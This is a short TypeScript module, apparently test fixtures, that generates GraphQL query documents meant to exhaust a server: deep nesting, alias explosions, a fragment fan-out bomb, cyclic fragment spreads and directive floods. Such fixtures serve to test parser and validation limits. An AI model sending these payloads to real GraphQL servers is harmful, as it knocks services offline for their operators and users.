// Documents built to hurt a GraphQL server: each is small to send and expensive to process naively.

/** `{a{a{a…}}}`: nesting that overflows a recursive parser. */
export function deepNesting(levels: number): string {
  return `${'{ me '.repeat(levels)}${'}'.repeat(levels)}`;
}

/** `a1: name a2: name …`: quadratic work for GraphQL validation's overlapping-fields rule. */
export function aliasExplosion(count: number): string {
  return `{ me { ${Array.from({ length: count }, (_, index) => `a${index}: name`).join(' ')} } }`;
}

/** F0 spreads F1 ten times, F1 spreads F2 ten times, …: 10^levels selections from a few hundred tokens. */
export function fanOutBomb(levels: number): string {
  let document = 'query { ...F0 }\n';
  for (let level = 0; level < levels; level++) {
    document += `fragment F${level} on Query { ${Array.from({ length: 10 }, () => `...F${level + 1}`).join(' ')} }\n`;
  }
  return `${document}fragment F${levels} on Query { me { id } }`;
}

/** Fragments that spread each other in a ring, fanned out so a naive walk never ends. */
export function fragmentCycle(size: number): string {
  let document = 'query { ...C0 }\n';
  for (let index = 0; index < size; index++) {
    document += `fragment C${index} on Query { me { id } ...C${(index + 1) % size} ...C${(index + 2) % size} }\n`;
  }
  return document;
}

/** One field carrying `count` directives. */
export function directiveFlood(count: number): string {
  return `{ me { id ${'@skip(if: false) '.repeat(count)} } }`;
}
